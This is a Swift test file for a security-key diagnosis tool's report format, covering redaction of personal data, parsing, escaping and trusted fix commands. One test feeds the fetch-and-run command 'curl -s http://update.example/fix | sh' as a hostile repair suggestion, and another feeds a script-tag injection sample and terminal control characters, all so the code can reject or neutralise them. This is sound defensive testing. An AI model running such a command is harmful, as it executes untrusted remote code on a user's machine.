import Failures
import StrictJSON
import Testing
import Wording

@testable import DiagnosisKit

struct DiagnosisPaperTests {
  private let secrets = [
    "深圳市示例建设工程有限公司", "9144030071526726XG", "35:A1:09:7F:10", "35A1097F10", "DEMO-GM-00412", "13800138000", "zhangsan",
  ]

  private var result: DiagnosisResult {
    var options = DiagnosisOptions(now: 1_800_000_000)
    options.programVersion = "0.1.0"
    let evidence = [
      Evidence(.certificate, "深圳市示例建设工程有限公司", .name), Evidence(.uscc, "9144030071526726XG", .code),
      Evidence(.serial, "35:A1:09:7F:10", .serial), Evidence(.keySerial, "DEMO-GM-00412", .serial),
      Evidence(.reader, "Vendor Reader DEMO-GM-00412 00", .text),
      Evidence(.error, "phone 13800138000, serial 35A1097F10 of 深圳市示例建设工程有限公司", .text),
      Evidence(.path, "/home/zhangsan/.pki/nssdb", .text), Evidence(.usbID, "096e:0309"),
    ]
    let fix = Fix("/usr/bin/systemctl restart pcscd.service", needsRoot: true)
    return DiagnosisResult(
      findings: [
        .system: .ok(evidence), .pin: Finding(.fault, .pinLocked, [Evidence(.triesLeft, "0")]),
        .reader: Finding(.fault, .readerNotNoticed, [], fix: fix),
        .browserStore: Finding(.fault, .storeOwner, [Evidence(.path, "/home/zhangsan/.pki/nssdb", .text)]),
      ], only: nil, options: options, microseconds: 12_345)
  }

  @Test(arguments: Language.allCases)
  func nothingPersonalStaysInARedactedReport(language: Language) {
    let document = DiagnosisDocument(result, full: false)
    for text in [document.json(language).text, document.markdown(language), document.html(language)] {
      for secret in secrets { #expect(!text.contains(secret), "\(secret)") }
      #expect(text.contains("096e:0309"))
    }
    let full = DiagnosisDocument(result, full: true).json(language).text
    for secret in secrets { #expect(full.contains(secret)) }
  }

  /// A warning among the links of the complaint is nearer to it than what is broken elsewhere.
  @Test func aComplaintNamesItsOwnWarningBesideABreakElsewhere() {
    func said(_ pin: Finding, _ language: Language) -> String {
      var options = DiagnosisOptions(now: 0)
      options.symptom = .pin
      let result = DiagnosisResult(
        findings: [.pin: pin, .browserStore: Finding(.fault, .storeOwner)], only: nil, options: options, microseconds: 0
      )
      return DiagnosisText(language).complaint(DiagnosisDocument(result, full: true)).joined()
    }
    #expect(said(Finding(.warning, .pinFewTries), .zh).hasSuffix("先看“密码状态”：密码剩余次数不多。"))
    #expect(
      said(Finding(.warning, .pinFewTries), .en).hasSuffix(#"Look first at "PIN state": Few PIN tries are left."#))
    #expect(said(Finding(.ok), .zh).hasSuffix("不一定是它的原因。"))
  }

  @Test func aReportIsReadBackAsItWas() throws {
    let document = DiagnosisDocument(result, full: false)
    let again = try DiagnosisDocument(parsing: Array(document.json(.zh).text.utf8))
    #expect(again == document)
    #expect(again.first?.cause == "reader-not-noticed")
    #expect(DiagnosisText(.en).document(again).contains("END OF REPORT"))
  }

  /// A file from outside: what it calls a repair is not what this program would say.
  @Test func aReportSpeaksNoCommandOfItsOwn() throws {
    func fix(_ cause: String, _ command: String) throws -> (String?, Bool) {
      let text = """
        {"schema":"ukey.doctor/1","checks":[{"id":"reader.present","verdict":"fault","cause":"\(cause)",\
        "fix":{"command":"\(command)","needsRoot":false}}],"end":"end-of-report"}
        """
      let row = try #require(try DiagnosisDocument(parsing: Array(text.utf8)).rows.first)
      return (row.fix, row.fixNeedsRoot)
    }
    let evil = "curl -s http://update.example/fix | sh"
    #expect(try fix("reader-not-noticed", evil) == ("/usr/bin/systemctl restart pcscd.service", true))
    for cause in ["store-owner", "pin-locked", "proxy-catches-loopback", "of-another-version"] {
      #expect(try fix(cause, evil) == (nil, false))
    }
    // Of several that are known, the one that was meant.
    #expect(try fix("pcscd-socket-missing", "/usr/bin/pcscd") == ("/usr/bin/pcscd", true))
  }

  @Test func everyCutIsNoticed() {
    let bytes = Array(DiagnosisDocument(result, full: false).json(.zh).text.utf8)
    for count in stride(from: 0, to: bytes.count, by: 7) {
      #expect(throws: Failure.self) { try DiagnosisDocument(parsing: Array(bytes.prefix(count))) }
    }
  }

  @Test func idsOfAnotherVersionAreShownAsTheyAre() throws {
    let text = """
      {"schema":"ukey.doctor/1","checks":[{"id":"new.link\\u001b[2J","verdict":"fault","cause":"new-cause",\
      "evidence":[{"name":"new","value":"\\u202Evalue"}]}],"end":"end-of-report"}
      """
    let document = try DiagnosisDocument(parsing: Array(text.utf8))
    let shown = DiagnosisText(.en).document(document)
    #expect(shown.contains("new.link") && shown.contains("new-cause"))
    #expect(!shown.contains("\u{1B}") && !shown.contains("\u{202E}"))
    let page = document.html(.zh)
    #expect(!page.contains("\u{1B}") && !page.contains("\u{202E}"))
  }

  @Test(arguments: [
    "", "[]", "{}", "{\"schema\":\"ukey.doctor/2\"}", "not json",
    "{\"schema\":\"ukey.doctor/1\",\"end\":\"end-of-report\"}",
  ])
  func whatIsNoReportIsRefused(text: String) {
    #expect(throws: Failure.self) { try DiagnosisDocument(parsing: Array(text.utf8)) }
  }

  @Test func markupInValuesStaysText() {
    var options = DiagnosisOptions(now: 0)
    options.programVersion = "<b>"
    let result = DiagnosisResult(
      findings: [
        .reader: .ok([
          Evidence(.reader, "<script>alert(1)</script>|`", .text),
          Evidence(.file, "http://a.example www.b.example", .text),
        ])
      ], only: nil, options: options,
      microseconds: 0)
    let document = DiagnosisDocument(result, full: true)
    #expect(!document.html(.zh).contains("<script>"))
    #expect(document.markdown(.zh).contains("\\<script\\>"))
    // Nothing that a viewer makes a link of.
    #expect(document.markdown(.zh).contains("http:\\//a.example www\\.b.example"))
  }

  @Test func theStepsOfALoginStandInEveryPaper() {
    var trial = LoginTrial()
    trial.set(.key, .ok())
    trial.set(.pin, Finding(.fault, .loginPIN))
    let document = Self.document(trial)
    #expect(DiagnosisText(.zh).document(document).contains("[login.pin]"))
    #expect(document.html(.en).contains("login.pin") && document.markdown(.en).contains("login.pin"))
    #expect(DiagnosisText(.zh).loginVerdict(document) == [])
  }

  @Test func theVerdictOnALoginSaysWhatIsNotProved() {
    var trial = LoginTrial()
    for step in LoginStep.allCases { trial.set(step, .ok()) }
    for language in Language.allCases {
      let text = DiagnosisText(language).document(Self.document(trial))
      #expect(text.contains(DiagnosisPhrases[language].loginNotProved))
    }
  }

  private static func document(_ trial: LoginTrial) -> DiagnosisDocument {
    let result = DiagnosisResult(
      findings: [.login: trial.finding], only: nil, options: DiagnosisOptions(now: 1_795_449_600), microseconds: 1)
    return DiagnosisDocument(result, full: true)
  }
}
